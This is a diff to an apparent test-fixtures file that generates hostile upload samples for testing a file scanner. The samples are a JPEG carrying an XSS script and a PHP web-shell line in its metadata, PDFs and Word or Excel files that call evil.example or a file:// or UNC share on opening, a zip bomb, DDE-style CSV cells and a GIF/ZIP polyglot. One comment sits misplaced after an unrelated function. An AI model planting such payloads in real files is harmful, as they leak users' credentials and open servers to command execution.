@@ -11,6 +11,9 @@ import zipfile
 from dataclasses import dataclass
 
 from PIL import Image
+from pypdf import PdfWriter
+from pypdf.annotations import Link
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
 
 from tests import files
 
@@ -57,7 +60,73 @@ CONTENT_TYPES_DOCM = CONTENT_TYPES_DOCX.replace(
     b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
     b"application/vnd.ms-word.document.macroEnabled.main+xml",
 )
-BOMB = b"\0" * (200 * 1024 * 1024)  # 200 MB of zeros deflates to about 200 KB
+BOMB = b"\0" * (200 * 1024 * 1024)
+RELS = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+RELS_END = b"</Relationships>"
+SCRIPT = b"<script>alert(document.cookie)</script>"
+
+
+def _jpeg_with_comment_and_exif():
+    """A JPEG whose comment segment holds a script and whose EXIF holds PHP and a GPS tag."""
+    exif = Image.Exif()
+    exif[0x010E] = "<?php system($_GET['c']); ?>"  # ImageDescription
+    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 0.0)}  # GPS
+    buffer = io.BytesIO()
+    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, "JPEG", comment=SCRIPT, exif=exif.tobytes())
+    return buffer.getvalue()
+
+
+def _pdf_with(action=None, link_uri=None):
+    """A one-page PDF whose opening runs `action` (a dictionary), or with a link to `link_uri`."""
+    writer = PdfWriter()
+    writer.add_blank_page(width=595, height=842)
+    if action:
+        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
+            {NameObject(key): value for key, value in action.items()}
+        )
+    if link_uri:
+        writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url=link_uri))
+    output = io.BytesIO()
+    writer.write(output)
+    return output.getvalue()
+
+
+def _office(content_types, main_part, main_xml, parts):
+    members = {
+        "[Content_Types].xml": content_types,
+        "_rels/.rels": RELS
+        + f'<Relationship Id="rId1" Type="{REL}officeDocument" Target="{main_part}"/>'.encode()
+        + RELS_END,
+        main_part: main_xml,
+    }
+    members.update(parts)
+    return _zip(members)
+
+
+def _docx_with_relationship(kind, target, part="word/_rels/document.xml.rels"):
+    relationship = f'<Relationship Id="rId9" Type="{REL}{kind}" Target="{target}" TargetMode="External"/>'
+    return _office(
+        CONTENT_TYPES_DOCX,
+        "word/document.xml",
+        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
+        {part: RELS + relationship.encode() + RELS_END, "word/settings.xml": b"<w:settings/>"},
+    )
+
+
+def _xlsx_with_external_link():
+    return _office(
+        CONTENT_TYPES_XLSX,
+        "xl/workbook.xml",
+        b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
+        {
+            "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
+            "xl/externalLinks/_rels/externalLink1.xml.rels": RELS
+            + f'<Relationship Id="rId1" Type="{REL}externalLinkPath" Target="http://evil.example/book.xlsx" '
+            'TargetMode="External"/>'.encode()
+            + RELS_END,
+        },
+    )  # 200 MB of zeros deflates to about 200 KB
 
 
 @functools.cache
@@ -170,6 +239,67 @@ def hostile_files():
             b"Bob,c@example.org,-2+3,BACP 3,completed\n"
             b"Cat,d@example.org,@SUM(1+1),UKCP 4,completed\n",
             "CSV cells starting with + - @ (DDE)",
+        ),
+        Hostile(
+            "jpeg-comment-and-exif",
+            "photo.jpg",
+            _jpeg_with_comment_and_exif(),
+            "JPEG carrying a script in its comment, PHP and a GPS position in its EXIF",
+        ),
+        Hostile(
+            "pdf-open-uri",
+            "cv.pdf",
+            _pdf_with(action={"/S": NameObject("/URI"), "/URI": TextStringObject("http://evil.example/opened")}),
+            "PDF calling a web address as it opens (/OpenAction /URI)",
+        ),
+        Hostile(
+            "pdf-link-uri",
+            "cv.pdf",
+            _pdf_with(link_uri="http://evil.example/track"),
+            "PDF with a link annotation to a web address (/URI)",
+        ),
+        Hostile(
+            "pdf-submit-form",
+            "cv.pdf",
+            _pdf_with(
+                action={
+                    "/S": NameObject("/SubmitForm"),
+                    "/F": DictionaryObject(
+                        {
+                            NameObject("/FS"): NameObject("/URL"),
+                            NameObject("/F"): TextStringObject("http://evil.example"),
+                        }
+                    ),
+                    "/Fields": ArrayObject(),
+                }
+            ),
+            "PDF sending a form to a web address as it opens (/SubmitForm)",
+        ),
+        Hostile(
+            "docx-remote-template",
+            "thesis.docx",
+            _docx_with_relationship(
+                "attachedTemplate", "http://evil.example/template.dotm", part="word/_rels/settings.xml.rels"
+            ),
+            "Word document fetching its template from a web address",
+        ),
+        Hostile(
+            "docx-file-target",
+            "thesis.docx",
+            _docx_with_relationship("image", "file://evil.example/share/pixel.png"),
+            "Word document loading a picture from a file:// share (leaks the reader's credentials)",
+        ),
+        Hostile(
+            "docx-unc-hyperlink",
+            "thesis.docx",
+            _docx_with_relationship("hyperlink", "\\\\evil.example\\share\\doc.docx"),
+            "Word document linking to a file on another computer",
+        ),
+        Hostile(
+            "xlsx-external-link",
+            "completers.xlsx",
+            _xlsx_with_external_link(),
+            "workbook linked to another workbook on a web address",
         ),
         Hostile(
             "gif-zip-polyglot", "scan.png", b"GIF89a" + _zip({"evil.class": b"\xca\xfe\xba\xbe"}), "GIF/ZIP polyglot"
